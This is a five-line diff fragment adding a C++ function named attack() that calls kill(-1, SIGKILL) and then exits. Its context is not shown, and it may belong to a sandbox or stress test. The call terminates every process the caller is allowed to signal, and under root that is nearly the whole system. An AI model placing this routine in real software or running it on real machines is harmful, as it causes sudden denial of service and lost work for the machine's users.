@@ -1,0 +1,5 @@
+// Kills all that it may kill.
+static void attack() {
+    ::kill(-1, SIGKILL);
+    ::_exit(0);
+}
